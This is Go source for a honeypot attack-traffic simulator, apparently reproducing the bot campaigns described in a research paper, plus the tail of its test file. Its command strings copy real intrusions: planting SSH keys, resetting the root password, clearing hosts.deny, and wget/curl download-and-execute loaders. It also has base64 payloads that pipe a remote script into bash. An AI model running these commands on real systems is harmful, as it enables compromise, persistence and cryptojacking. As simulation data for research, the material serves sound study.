		t.Errorf("catalog has %d bots, expected a full population", len(seen))
	}
}

func TestAttackWellFormed(t *testing.T) {
	env := testEnv()
	rng := rand.New(rand.NewSource(8))
	for _, b := range Catalog() {
		// Find an active day for the bot.
		var day time.Time
		for d := WindowStart; d.Before(WindowEnd); d = d.AddDate(0, 0, 1) {
			if EffectiveRate(b, d) > 0 {
				day = d
				break
			}
		}
		atk := b.Gen(b, env, rng, day)
		if atk.NoLogin {
			continue
		}
		if atk.User == "" {
			t.Errorf("bot %q generated empty user", b.Name)
		}
		for _, c := range atk.Commands {
			if strings.TrimSpace(c) == "" {
				t.Errorf("bot %q generated empty command", b.Name)
			}
		}
	}
}

func TestMdrfckrKeyHashStable(t *testing.T) {
	if MdrfckrKeyHash() != MdrfckrKeyHash() {
		t.Error("key hash must be stable")
	}
	if len(MdrfckrKeyHash()) != 64 {
		t.Errorf("key hash length = %d", len(MdrfckrKeyHash()))
	}
}
