package botnet

import (
	"fmt"
	"math/rand"
	"strings"
	"time"
)

// MdrfckrDropWindows are the low-activity periods of the dominant
// campaign, which section 10 correlates with documented attack events.
var MdrfckrDropWindows = []Window{
	{From: D(2022, 3, 16), To: D(2022, 3, 25)},   // IRIDIUM DDoS vs Ukraine
	{From: D(2022, 4, 2), To: D(2022, 4, 13)},    // follow-up wave
	{From: D(2022, 8, 1), To: D(2022, 8, 3)},     // EU infrastructure hits
	{From: D(2022, 10, 10), To: D(2022, 10, 17)}, // Sandworm grid attack + Killnet vs US airports
	{From: D(2023, 3, 2), To: D(2023, 3, 11)},    // KyivStar attack
	{From: D(2023, 9, 1), To: D(2023, 9, 9)},     // DDoS vs UA administration
	{From: D(2024, 1, 19), To: D(2024, 1, 22)},   // APT29 data theft
	{From: D(2024, 4, 4), To: D(2024, 4, 11)},    // Sandworm vs UA infrastructure
}

// InMdrfckrDrop reports whether day falls in a drop window.
func InMdrfckrDrop(day time.Time) bool {
	for _, w := range MdrfckrDropWindows {
		if !day.Before(w.From) && day.Before(w.To) {
			return true
		}
	}
	return false
}

// mdrfckrSchedule builds the campaign profile: slow honeynet discovery in
// Dec 2021, the early-2022 spike Figure 1 shows, a steady ~45k/day
// plateau, and ~100/day during drop windows.
func mdrfckrSchedule() Schedule {
	segments := Schedule{
		{From: D(2021, 12, 1), To: D(2022, 1, 1), Rate: 1_500},
		{From: D(2022, 1, 1), To: D(2022, 2, 1), Rate: 30_000},
		{From: D(2022, 2, 1), To: D(2022, 5, 1), Rate: 130_000},
		{From: D(2022, 5, 1), To: WindowEnd, Rate: 47_000},
	}
	// Subtract drop windows by splitting: implemented at generation time
	// via EffectiveRate, so the base schedule stays additive.
	return segments
}

// EffectiveRate applies campaign-specific rate overrides (drop windows).
func EffectiveRate(b *Bot, day time.Time) float64 {
	rate := b.Schedule.Rate(day)
	if rate > 0 && (b.Name == "mdrfckr" || b.Name == "mdrfckr_variant") && InMdrfckrDrop(day) {
		if rate > 100 {
			return 100
		}
	}
	return rate
}

// mdrfckrPersist is the key-install line shared by both variants.
func mdrfckrPersist() string {
	return `cd ~ && rm -rf .ssh && mkdir .ssh && echo "` + MdrfckrKey + `">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`
}

var mdrfckrRecon = []string{
	`cat /proc/cpuinfo | grep name | wc -l`,
	`cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'`,
	`free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'`,
	`ls -lh $(which ls)`,
	`which ls`,
	`crontab -l`,
	`w`,
	`uname -m`,
	`top`,
	`uname`,
	`uname -a`,
	`whoami`,
	`lscpu | grep Model`,
}

// base64Scripts are the three decoded functionalities seen only in drop
// windows (section 9): cryptominer setup, IRC shellbot install, and the
// cleanup script targeting the 8 C&C IPs.
func base64Script(rng *rand.Rand) string {
	payloads := []string{
		"Y3VybCAtcyBodHRwOi8vbWluZS5wb29sL3NldHVwLnNoIHwgYmFzaA==", // miner setup
		"cGVybCAtZSAndXNlIElPOjpTb2NrZXQ7IyBzaGVsbGJvdCBpcmMgYzIn", // shellbot
		"Zm9yIGlwIGluIDguOC44LjggOyBkbyBwa2lsbCAtZiAkaXAgOyBkb25l", // cleanup
	}
	return fmt.Sprintf("echo %s|base64 -d|bash", payloads[rng.Intn(len(payloads))])
}

// Catalog builds the full bot population of the observation window.
func Catalog() []*Bot {
	bots := []*Bot{
		// ============ The Outlaw-linked campaign (section 9) ============
		{
			Name:        "mdrfckr",
			Schedule:    mdrfckrSchedule(),
			PoolSize:    270_000,
			DailyActive: 7_000,
			ScalePool:   true,
			Version:     "SSH-2.0-libssh2_1.8.2",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				pwd := randomAlnum(rng, 15+rng.Intn(5))
				cmds := []string{
					`cd ~; chattr -ia .ssh; lockr -ia .ssh`,
					mdrfckrPersist(),
					fmt.Sprintf(`echo "root:%s"|chpasswd|bash`, pwd),
				}
				n := 3 + rng.Intn(5)
				perm := rng.Perm(len(mdrfckrRecon))
				for _, i := range perm[:n] {
					cmds = append(cmds, mdrfckrRecon[i])
				}
				if InMdrfckrDrop(day) {
					cmds = append(cmds, base64Script(rng))
				}
				return Attack{
					User: "root", Password: dictPassword(rng),
					Commands: cmds, ClientVersion: b.Version,
				}
			},
		},
		{
			Name:        "mdrfckr_variant",
			Schedule:    Between(D(2022, 12, 8), WindowEnd, 4_000),
			SharedPool:  "mdrfckr",
			PoolSize:    270_000,
			DailyActive: 900,
			ScalePool:   true,
			Version:     "SSH-2.0-libssh2_1.8.2",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				cmds := []string{
					`rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh`,
					`pkill -9 secure.sh; pkill -9 auth.sh`,
					`echo > /etc/hosts.deny`,
					`pkill -9 sleep`,
					mdrfckrPersist(),
				}
				return Attack{User: "root", Password: dictPassword(rng), Commands: cmds, ClientVersion: b.Version}
			},
		},
		{
			// The credential-only twin: logs in with 3245gs5662d34 and
			// leaves. Starts 2022-12-08 18:00 UTC; 99.4% IP overlap with
			// mdrfckr via the shared pool.
			Name:        "login_3245gs5662d34",
			Schedule:    Between(D(2022, 12, 8), WindowEnd, 38_000),
			SharedPool:  "mdrfckr",
			PoolSize:    270_000,
			DailyActive: 3_500,
			ScalePool:   true,
			Version:     "SSH-2.0-libssh2_1.8.2",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: "3245gs5662d34", ClientVersion: b.Version}
			},
		},

		// ============ Non-state-changing scouts (Figure 2) ============
		{
			Name: "echo_OK",
			Schedule: Schedule{
				{From: WindowStart, To: D(2023, 1, 1), Rate: 55_000},
				{From: D(2023, 1, 1), To: WindowEnd, Rate: 95_000},
			},
			PoolSize: 90_000, DailyActive: 3_000,
			Version: "SSH-2.0-Go",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`echo -e "\x6F\x6B"`}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "uname_svnrm",
			Schedule: Steady(6_000),
			PoolSize: 20_000, DailyActive: 600,
			Version: "SSH-2.0-libssh_0.9.6",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`uname -s -v -n -r -m`}, ClientVersion: b.Version}
			},
		},
		{
			Name: "bbox_scout_cat",
			Schedule: append(
				Between(D(2022, 5, 1), D(2022, 9, 1), 20_000),
				Between(D(2023, 4, 1), D(2023, 8, 1), 25_000)...),
			PoolSize: 50_000, DailyActive: 2_000,
			Version: "SSH-2.0-PUTTY",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands:      []string{`/bin/busybox cat /proc/self/exe || cat /proc/self/exe`},
					ClientVersion: b.Version}
			},
		},
		{
			Name: "uname_a",
			Schedule: append(
				Between(D(2022, 1, 1), D(2022, 7, 1), 10_000),
				Between(D(2023, 10, 1), D(2024, 3, 1), 5_000)...),
			PoolSize: 30_000, DailyActive: 1_200,
			Version: "SSH-2.0-Go",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`uname -a`}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "uname_a_nproc",
			Schedule: Between(D(2023, 6, 1), WindowEnd, 4_000),
			PoolSize: 12_000, DailyActive: 500,
			Version: "SSH-2.0-Go",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`uname -a`, `nproc`}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "uname_snri_nproc",
			Schedule: Between(D(2023, 9, 1), D(2024, 5, 1), 3_000),
			PoolSize: 9_000, DailyActive: 400,
			Version: "SSH-2.0-libssh_0.9.6",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`uname -s -n -r -i`, `nproc`}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "ak47_scout",
			Schedule: Between(D(2022, 1, 1), D(2022, 6, 1), 3_000),
			PoolSize: 8_000, DailyActive: 300,
			Version: "SSH-2.0-libssh2_1.4.3",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands:      []string{`echo -e "\x41\x4b\x34\x37" && echo writable || echo failed`},
					ClientVersion: b.Version}
			},
		},
		{
			Name:     "shell_fp",
			Schedule: Steady(2_000),
			PoolSize: 6_000, DailyActive: 250,
			Version: "SSH-2.0-libssh2_1.9.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands:      []string{`echo $SHELL`, `dd bs=22 count=1 if=/proc/self/exe`},
					ClientVersion: b.Version}
			},
		},
		{
			Name:     "echo_ok_txt",
			Schedule: Steady(3_000),
			PoolSize: 10_000, DailyActive: 350,
			Version: "SSH-2.0-Go",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`echo ok`}, ClientVersion: b.Version}
			},
		},

		// ===== State-changing without execution (Figure 3a) =====
		{
			// The proxy-abuse campaign of Appendix C: four client IPs in
			// one Russian hosting AS drive ~100 curl requests per session
			// against external targets through 180 honeypots.
			Name:     "curl_maxred",
			Schedule: Between(D(2024, 1, 5), D(2024, 4, 25), 1_800),
			PoolSize: 4, DailyActive: 4,
			Version: "SSH-2.0-OpenSSH_8.9p1",
			Gen:     genCurlMaxred,
		},
		{
			Name:     "gen_curl_echo",
			Schedule: Between(D(2022, 2, 1), D(2023, 1, 1), 3_000),
			PoolSize: 15_000, DailyActive: 700,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				uri := env.Rotator("generic", 2).URI(rng, day, "i686")
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`curl -s %s -o /tmp/.i686`, uri),
						`echo installed > /tmp/.flag`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "openssl_passwd",
			Schedule: Between(D(2023, 3, 1), D(2024, 1, 1), 1_500),
			PoolSize: 5_000, DailyActive: 250,
			Version: "SSH-2.0-OpenSSH_7.4",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`openssl passwd -1 %s > /tmp/.cred`, randomAlnum(rng, 8)),
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "root_12_char_capscout",
			Schedule: Between(D(2023, 6, 1), D(2024, 4, 1), 1_000),
			PoolSize: 4_000, DailyActive: 200,
			Version: "SSH-2.0-libssh2_1.9.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`echo "root:%s"|chpasswd`, randomAlnum(rng, 12)),
						`cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "root_12_char_echo321",
			Schedule: Between(D(2023, 10, 1), D(2024, 7, 1), 800),
			PoolSize: 3_000, DailyActive: 150,
			Version: "SSH-2.0-libssh2_1.9.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`echo "root:%s"|chpasswd`, randomAlnum(rng, 12)),
						`echo 321`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "root_17_char_pwd",
			Schedule: Between(D(2022, 6, 1), D(2023, 6, 1), 1_200),
			PoolSize: 4_500, DailyActive: 220,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`echo root:%s|chpasswd`, randomAlnum(rng, 17)),
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "clamav",
			Schedule: Waves(D(2023, 2, 1), D(2023, 12, 1), 20, 40, 600),
			PoolSize: 2_000, DailyActive: 100,
			Version: "SSH-2.0-OpenSSH_8.2p1",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands:      []string{`apt-get install -y clamav > /tmp/.clam.log`},
					ClientVersion: b.Version}
			},
		},
		{
			Name:     "lenni_0451",
			Schedule: Between(D(2023, 11, 1), D(2024, 3, 1), 500),
			PoolSize: 1_500, DailyActive: 80,
			Version: "SSH-2.0-JSCH-0.1.54",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`echo lenni0451 > /tmp/.marker`}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "stx_miner",
			Schedule: Between(D(2024, 2, 1), WindowEnd, 700),
			PoolSize: 2_200, DailyActive: 110,
			Version: "SSH-2.0-libssh2_1.10.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				uri := env.Rotator(FamilyCoinMiner, 2).URI(rng, day, "stx")
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						`export LC_ALL=C`,
						fmt.Sprintf(`wget -q %s -O /tmp/stx`, uri),
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "perl_dred_miner",
			Schedule: Between(D(2023, 5, 1), WindowEnd, 600),
			PoolSize: 1_800, DailyActive: 90,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				uri := env.Rotator(FamilyCoinMiner, 2).URI(rng, day, "dred.pl")
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`curl -s %s -o /tmp/dred.pl`, uri),
						`perl /tmp/dred.pl dred > /dev/null`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "grer_echo",
			Schedule: Between(D(2022, 1, 1), D(2022, 10, 1), 1_500),
			PoolSize: 5_000, DailyActive: 240,
			Version: "SSH-2.0-Go",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{`echo -e "\x67\x79" > /tmp/.g`}, ClientVersion: b.Version}
			},
		},

		// ============ File-execution bots (Figure 3b) ============
		{
			// Ends abruptly mid-2022 with no successor — the takedown
			// candidate of section 5. Variants split between protocols
			// the honeypot captures (wget/tftp) and ones it cannot.
			Name:     "bbox_unlabelled",
			Family:   FamilyGafgyt,
			Schedule: Between(WindowStart, D(2022, 7, 15), 12_000),
			PoolSize: 60_000, DailyActive: 2_500,
			Version: "SSH-2.0-HELLOWORLD",
			Gen:     genBboxUnlabelled,
		},
		{
			// The long-lived busybox loader that dominates late exec
			// activity (~60% after 2022); its fetches increasingly fail
			// to deliver a capturable file — the Figure 4(a) collapse.
			Name:   "bbox_5_char_v2",
			Family: FamilyMirai,
			Schedule: Schedule{
				{From: D(2022, 1, 10), To: D(2023, 1, 1), Rate: 8_000},
				{From: D(2023, 1, 1), To: D(2024, 1, 1), Rate: 6_000},
				{From: D(2024, 1, 1), To: WindowEnd, Rate: 4_000},
			},
			PoolSize: 80_000, DailyActive: 3_000,
			Version: "SSH-2.0-HELLOWORLD",
			Gen:     genBbox5CharV2,
		},
		{
			Name:   "mirai_loader",
			Family: FamilyMirai,
			Schedule: append(append(
				Between(D(2022, 1, 1), D(2022, 6, 1), 4_000),
				Between(D(2022, 11, 1), D(2023, 1, 15), 5_000)...),
				Between(D(2024, 3, 1), WindowEnd, 6_000)...), // the 2024 resurgence
			PoolSize: 45_000, DailyActive: 1_800,
			Version: "SSH-2.0-libssh2_1.4.3",
			Gen:     genWgetLoader("mirai.x86", FamilyMirai),
		},
		{
			Name:   "gafgyt_loader",
			Family: FamilyGafgyt,
			Schedule: append(
				Between(D(2022, 3, 1), D(2022, 8, 1), 3_000),
				Between(D(2023, 2, 1), D(2023, 6, 1), 2_500)...),
			PoolSize: 30_000, DailyActive: 1_200,
			Version: "SSH-2.0-libssh2_1.4.3",
			Gen:     genCurlFtpWgetLoader("gaf.x86", FamilyGafgyt),
		},
		{
			// Continuous until an abrupt stop in early 2024 (cluster C-6).
			Name:     "xorddos",
			Family:   FamilyXorDDoS,
			Schedule: Between(WindowStart, D(2024, 2, 10), 2_500),
			PoolSize: 25_000, DailyActive: 1_000,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen:     genWgetLoader("xorddos", FamilyXorDDoS),
		},
		{
			// Continuous minimal-loader mix (cluster C-1): Mirai, Dofloo,
			// CoinMiner, and Gafgyt payloads behind the same five-step
			// pattern.
			Name:     "minimal_loader_mix",
			Family:   FamilyDofloo,
			Schedule: Steady(3_000),
			PoolSize: 40_000, DailyActive: 1_500,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen:     genMinimalMix,
		},
		{
			Name:     "sora_attack",
			Family:   FamilyMirai,
			Schedule: Between(D(2022, 1, 1), D(2022, 10, 1), 1_500),
			PoolSize: 9_000, DailyActive: 400,
			Version: "SSH-2.0-HELLOWORLD",
			Gen:     genWgetLoader("sora.x86", FamilyMirai),
		},
		{
			Name:     "ohshit_attack",
			Family:   FamilyGafgyt,
			Schedule: Between(D(2022, 4, 1), D(2023, 1, 1), 1_000),
			PoolSize: 6_000, DailyActive: 280,
			Version: "SSH-2.0-HELLOWORLD",
			Gen:     genWgetLoader("ohshit.sh", FamilyGafgyt),
		},
		{
			Name:     "onions_attack",
			Family:   FamilyGafgyt,
			Schedule: Between(D(2022, 2, 1), D(2022, 8, 1), 800),
			PoolSize: 5_000, DailyActive: 220,
			Version: "SSH-2.0-HELLOWORLD",
			Gen:     genWgetLoader("onions1337.sh", FamilyGafgyt),
		},
		{
			// Executes a file it never transfers through the shell — the
			// canonical "file missing" bot of Figure 4(b).
			Name:     "update_attack",
			Schedule: Steady(1_000),
			PoolSize: 8_000, DailyActive: 300,
			Version: "SSH-2.0-OpenSSH_7.4p1",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands:      []string{`cd /tmp; chmod +x update.sh; sh update.sh`},
					ClientVersion: b.Version}
			},
		},
		{
			Name:     "rapperbot",
			Family:   FamilyMirai,
			Schedule: Between(D(2022, 6, 1), D(2023, 3, 1), 2_000),
			PoolSize: 14_000, DailyActive: 600,
			Version: "SSH-2.0-HELLOWORLD",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						`cd ~ && mkdir -p .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAACAQ rapper" > ~/.ssh/authorized_keys`,
						`cd /tmp; chmod +x rbot; ./rbot ssh`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "passwd123_daemon",
			Family:   FamilyGafgyt,
			Schedule: Between(D(2022, 9, 1), D(2023, 8, 1), 1_200),
			PoolSize: 7_000, DailyActive: 320,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				uri := env.Rotator(FamilyGafgyt, 2).URI(rng, day, "daemon.sh")
				return Attack{User: "root", Password: "Password123",
					Commands: []string{
						fmt.Sprintf(`wget -q %s -O /tmp/daemon.sh`, uri),
						`sh /tmp/daemon.sh daemon`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "wget_dget",
			Schedule: Between(D(2023, 1, 1), D(2024, 1, 1), 900),
			PoolSize: 4_000, DailyActive: 200,
			Version: "SSH-2.0-Go",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				uri := env.Rotator("generic", 2).URI(rng, day, "d")
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`wget -4 %s -O /tmp/d || dget -4 %s`, uri, uri),
						`chmod +x /tmp/d && /tmp/d`,
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "bbox_echo_elf",
			Family:   FamilyMirai,
			Schedule: Between(D(2022, 2, 1), D(2023, 1, 1), 1_500),
			PoolSize: 10_000, DailyActive: 450,
			Version: "SSH-2.0-HELLOWORLD",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				name := "." + randomAlnum(rng, 4)
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						`/bin/busybox ` + randomUpper(rng, 5),
						fmt.Sprintf(`echo -ne "\x7f\x45\x4c\x46\x01\x01\x01\x00" > /tmp/%s`, name),
						fmt.Sprintf(`chmod 777 /tmp/%s && /tmp/%s`, name, name),
					}, ClientVersion: b.Version}
			},
		},
		{
			Name:     "bbox_loaderwget",
			Family:   FamilyMirai,
			Schedule: Between(D(2022, 1, 1), D(2022, 9, 1), 1_000),
			PoolSize: 6_000, DailyActive: 260,
			Version: "SSH-2.0-HELLOWORLD",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				uri := env.Rotator(FamilyMirai, 2).URI(rng, day, "loader.wget")
				return Attack{User: "root", Password: dictPassword(rng),
					Commands: []string{
						fmt.Sprintf(`/bin/busybox wget %s -O /tmp/loader.wget`, uri),
						`sh /tmp/loader.wget`,
					}, ClientVersion: b.Version}
			},
		},

		// ============ Credential campaigns (Figure 10) ============
		{
			Name:     "cred_admin",
			Schedule: Steady(13_000),
			PoolSize: 120_000, DailyActive: 4_000,
			Version: "SSH-2.0-libssh_0.9.6",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: "admin", ClientVersion: b.Version}
			},
		},
		{
			Name:     "cred_1234",
			Schedule: Steady(10_000),
			PoolSize: 100_000, DailyActive: 3_200,
			Version: "SSH-2.0-libssh_0.9.6",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: "1234", ClientVersion: b.Version}
			},
		},
		{
			// The synchronized TV-box pair: "dreambox" (Dreambox Enigma)
			// and "vertex25ektks123" (Dasan H660DW), one botnet cycling
			// both defaults; sparse Mirai-labeled payload drops.
			Name:   "tvbox_mirai",
			Family: FamilyMirai,
			// Waves, not a steady rate: the on/off campaign rhythm is what
			// synchronizes the two default passwords' monthly series in
			// Figure 10.
			Schedule: Waves(D(2023, 4, 1), WindowEnd, 35, 25, 34_000),
			PoolSize: 80_000, DailyActive: 2_600,
			Version: "SSH-2.0-HELLOWORLD",
			Gen:     genTVBox,
		},
		{
			// The Cowrie fingerprinting probes of section 8: log in as
			// "phil", disconnect immediately, never return.
			Name:     "phil_fingerprint",
			Schedule: Steady(30),
			PoolSize: 10_500, DailyActive: 0,
			Version: "SSH-2.0-OpenSSH_8.9",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "phil", Password: randomAlnum(rng, 8), ClientVersion: b.Version}
			},
		},
		{
			// Probes for the pre-2020 Cowrie default, which fails on this
			// deployment — pure scouting.
			Name:     "richard_probe",
			Schedule: Steady(20),
			PoolSize: 7_000, DailyActive: 0,
			Version: "SSH-2.0-OpenSSH_8.9",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "richard", Password: randomAlnum(rng, 8),
					FinalFails: true, ClientVersion: b.Version}
			},
		},

		// ============ Background populations ============
		{
			// Dictionary brute-forcers that never guess a working
			// credential: the scouting mass (258M sessions).
			Name:     "dict_bruteforce",
			Schedule: Steady(257_000),
			PoolSize: 450_000, DailyActive: 15_000,
			Version: "SSH-2.0-libssh_0.9.6",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				n := 1 + rng.Intn(3)
				var fails [][2]string
				for i := 0; i < n; i++ {
					fails = append(fails, failingCred(rng))
				}
				last := failingCred(rng)
				return Attack{PreFailed: fails, User: last[0], Password: last[1],
					FinalFails: true, ClientVersion: b.Version}
			},
		},
		{
			// Generic successful logins with no interaction: the
			// remaining intrusion mass.
			Name:     "misc_intrusion",
			Schedule: Steady(25_000),
			PoolSize: 200_000, DailyActive: 7_000,
			Version: "SSH-2.0-libssh2_1.8.0",
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{User: "root", Password: randomAlnum(rng, 6+rng.Intn(6)),
					ClientVersion: b.Version}
			},
		},
		{
			// Telnet-side traffic: the classic Mirai-style default-
			// credential walk on port 23 (the 89M non-SSH sessions of
			// section 3.3; the paper's analyses use the SSH subset).
			Name:     "telnet_brute",
			Schedule: Steady(88_000),
			PoolSize: 250_000, DailyActive: 9_000,
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				switch p := rng.Float64(); {
				case p < 0.15:
					return Attack{Telnet: true, NoLogin: true}
				case p < 0.80:
					c := failingCred(rng)
					return Attack{Telnet: true, User: c[0], Password: c[1], FinalFails: true}
				case p < 0.95:
					return Attack{Telnet: true, User: "root", Password: dictPassword(rng)}
				default:
					return Attack{Telnet: true, User: "root", Password: dictPassword(rng),
						Commands: []string{`/bin/busybox ` + randomUpper(rng, 5)}}
				}
			},
		},
		{
			// Pure TCP scans (45M sessions).
			Name:     "scanner",
			Schedule: Steady(45_000),
			PoolSize: 300_000, DailyActive: 10_000,
			Gen: func(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
				return Attack{NoLogin: true}
			},
		},
	}
	return bots
}

// Family names re-exported for catalog readability (they mirror
// abusedb's labels without importing it, keeping botnet dependency-light).
const (
	FamilyMirai     = "Mirai"
	FamilyGafgyt    = "Gafgyt"
	FamilyDofloo    = "Dofloo"
	FamilyCoinMiner = "CoinMiner"
	FamilyXorDDoS   = "XorDDos"
)

// dictPassword draws the successful-login password brute-forcers land
// on: weighted toward the classic weak passwords of Figure 10.
func dictPassword(rng *rand.Rand) string {
	// Most bots walk large dictionaries; the classic weak passwords of
	// Figure 10 appear with a small, realistic bias so the dedicated
	// credential campaigns (cred_admin, tvbox_mirai, 3245gs) stay on
	// top of the ranking, as in the paper.
	common := []string{"admin", "1234", "12345", "123456", "password", "qwerty", "abc123", "letmein"}
	if rng.Float64() < 0.12 {
		return common[rng.Intn(len(common))]
	}
	return randomAlnum(rng, 5+rng.Intn(8))
}

// failingCred draws a credential pair the honeypot rejects.
func failingCred(rng *rand.Rand) [2]string {
	for {
		c := dictionary[rng.Intn(len(dictionary))]
		if c[0] == "root" && c[1] != "root" {
			continue // would succeed
		}
		return c
	}
}

// genCurlMaxred produces the Appendix C proxy-abuse session: ~100 curl
// requests with unique cookies against Russian/Ukrainian targets.
func genCurlMaxred(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
	targets := []string{
		"203.0.113.40", "203.0.113.41", "trade.example.ru", "crypto.example.ru",
		"shop.example.ua", "tg-bot.example.ru", "market.example.ua", "game.example.ru",
	}
	n := 90 + rng.Intn(20)
	cmds := make([]string, 0, n)
	methods := []string{"GET", "POST", "PUT", "HEAD"}
	for i := 0; i < n; i++ {
		cmds = append(cmds, fmt.Sprintf(
			`curl https://%s/ -s -X %s --max-redirs 5 --compressed --cookie 'sid=%s' --raw --referer 'https://%s/'`,
			targets[rng.Intn(len(targets))], methods[rng.Intn(len(methods))],
			randomHex(rng, 24), targets[rng.Intn(len(targets))]))
	}
	return Attack{User: "root", Password: dictPassword(rng), Commands: cmds, ClientVersion: b.Version}
}

// genBboxUnlabelled mixes transfer variants: some the honeypot captures
// (wget/tftp), some it cannot (the file never arrives).
func genBboxUnlabelled(b *Bot, env *Env, rng *rand.Rand, day time.Time) Attack {
	name := strings.ToLower(randomAlnum(rng, 6))
	// Seven-character probe: distinguishable from the five-character
	// family by the Table 1 signatures.
	cmds := []string{`/bin/busybox ` + randomUpper(rng, 7)}
	switch rng.Intn(5) {
	case 0: // wget variant: captured
		uri := env.Rotator(FamilyGafgyt, 2).URI(rng, day, name+".sh")
		cmds = append(cmds,
			fmt.Sprintf(`cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; busybox wget %s -O %s; chmod 777 %s; sh %s`, uri, name, name, name))
	case 1: // tftp variant: captured
